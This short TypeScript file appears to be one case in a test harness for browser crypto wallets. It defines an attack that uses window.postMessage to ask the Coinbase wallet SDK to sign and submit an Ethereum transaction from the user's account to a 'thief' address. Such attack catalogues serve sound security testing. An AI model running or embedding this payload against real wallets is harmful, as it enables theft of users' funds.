import type { Attack } from '../Attack.ts';
import { COINBASE, COINBASE_PATH } from '../otherMakes.ts';

/** In the words of Coinbase's SDK, which no table of Ethereum methods has. */
export const attack: Attack = {
  entry: 'window.postMessage to Coinbase',
  mechanism: 'signEthereumTransaction of its SDK',
  discovers: false,
  path: COINBASE_PATH,
  script: `${COINBASE}
post(named({ method: 'signEthereumTransaction', params: { fromAddress: kit.account, toAddress: kit.thief, weiValue: '1', data: kit.hex, nonce: null, gasPriceInWei: null, gasLimit: null, chainId: kit.chainId, shouldSubmit: true } }));
`,
};
